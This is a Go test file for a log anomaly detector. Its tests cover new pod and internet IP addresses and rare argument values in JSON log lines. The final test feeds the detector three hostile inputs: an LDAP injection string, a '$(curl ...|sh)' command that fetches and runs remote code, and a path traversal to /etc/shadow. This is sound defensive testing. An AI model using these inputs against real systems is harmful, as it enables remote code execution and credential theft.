package detector_test

import (
	"fmt"
	"math/rand/v2"
	"testing"
)

// TestAddressesOfPods: where a cluster hands out addresses, one more of its network is no news;
// one of another network is, and so is one more where there were few.
func TestAddressesOfPods(t *testing.T) {
	rng := rand.New(rand.NewPCG(2, 9))
	say := func(host string) string {
		return fmt.Sprintf(`{"level":"info","msg":"connection authorized","client":%q,"port":%d}`, host, 30000+rng.IntN(9000))
	}
	some := func(form string, n int) []string {
		var list []string
		for range n {
			list = append(list, fmt.Sprintf(form, rng.IntN(8), rng.IntN(250)))
		}
		return list
	}
	for name, c := range map[string]struct {
		known []string
		next  string
		told  bool
	}{
		"one more pod":         {some("10.42.%d.%d", 20), "10.42.200.7", false},
		"with a port":          {some("10.42.%d.%d:8080", 20), "10.42.200.7:8080", false},
		"another port":         {some("10.42.%d.%d:8080", 20), "10.42.200.7:4444", true},
		"of another network":   {some("10.42.%d.%d", 20), "10.99.3.4", true},
		"from the internet":    {some("10.42.%d.%d", 20), "203.0.113.9", true},
		"at home":              {some("192.168.%d.%d", 20), "192.168.200.7", true},
		"a third of a network": {some("10.42.%d.%d", 2), "10.42.200.7", true},
	} {
		t.Run(name, func(t *testing.T) {
			w := watch(t, func() string { return say(pick(rng, c.known...)) }, 4000)
			if v := w.see(say(c.next)); v.Anomaly != c.told {
				t.Errorf("flagged %v: %.2f %s", v.Anomaly, v.Score, v.Reason)
			}
		})
	}
}

// TestAddressesOfTheInternet: where each of few that come from the Internet has an address of its own, one
// more is no news; where these are partners, known by their addresses, it is.
func TestAddressesOfTheInternet(t *testing.T) {
	const format = `{"level":"warn","msg":"throttled","remote":%q}`
	for name, partners := range map[string][]string{
		"strangers": nil,
		"partners": {"45.148.10.1", "51.15.20.2", "62.219.8.3", "77.91.137.4", "81.2.69.5", "88.99.3.6", "93.184.216.7",
			"104.16.8.8", "151.38.59.9", "185.60.1.10"},
	} {
		t.Run(name, func(t *testing.T) {
			rng := rand.New(rand.NewPCG(24, 9))
			stranger := func() string {
				return fmt.Sprintf("%d.%d.%d.%d", 11+rng.IntN(80), rng.IntN(250), rng.IntN(250), 1+rng.IntN(250))
			}
			w := watch(t, func() string {
				switch {
				case rng.IntN(100) > 0:
					return fmt.Sprintf(format, fmt.Sprintf("10.12.0.%d", 1+rng.IntN(20)))
				case partners != nil:
					return fmt.Sprintf(format, pick(rng, partners...))
				}
				return fmt.Sprintf(format, stranger())
			}, 4000)
			if line := fmt.Sprintf(format, stranger()); partners == nil {
				w.passes(line)
			} else {
				w.flags(line, "never seen")
			}
		})
	}
}

// TestTextsOfAKindThatIsSeldom: in a field of texts of several kinds, what the characters of a
// seldom kind are is no news with each text of it; an attack is.
func TestTextsOfAKindThatIsSeldom(t *testing.T) {
	rng := rand.New(rand.NewPCG(2, 11))
	say := func(value string) string {
		return fmt.Sprintf(`{"level":"info","msg":"event","argument":%q}`, value)
	}
	seldom := func() string {
		return fmt.Sprintf("CN=%s,OU=Users,DC=%s", letterWord(rng.IntN(1<<20)), letterWord(rng.IntN(1<<20)))
	}
	w := watch(t, func() string {
		switch rng.IntN(400) {
		case 0:
			return say(seldom())
		case 1, 2, 3:
			return say(fmt.Sprintf("S-1-5-21-%d", rng.IntN(1e9)))
		}
		return say(fmt.Sprintf("0x%x", rng.IntN(1e9)))
	}, 12_000)
	told := 0
	for range 30 {
		w.goOn(100)
		if w.see(say(seldom())).Anomaly {
			told++
		}
	}
	if told > 2 {
		t.Errorf("of 30 texts of a kind that is seldom, %d are told", told)
	}
	for _, attack := range []string{"CN=*)(uid=*))(|(uid=*", "$(curl http://203.0.113.9/x|sh)", "../../../etc/shadow"} {
		w.flags(say(attack), "argument ")
	}
}
